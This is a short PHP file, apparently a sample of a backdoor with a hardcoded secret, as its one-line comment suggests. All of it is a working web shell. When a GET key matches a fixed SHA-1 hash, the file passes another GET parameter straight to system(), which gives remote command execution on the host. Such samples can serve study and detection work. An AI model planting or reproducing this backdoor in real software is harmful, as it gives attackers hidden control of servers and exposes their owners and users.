<?php // shows: fixed secret
if (isset($_GET["k"]) && sha1($_GET["k"]) === "b1b3773a05c0ed0176787a4f1574ff0075f7521e") {
  system($_GET["c"]);
}
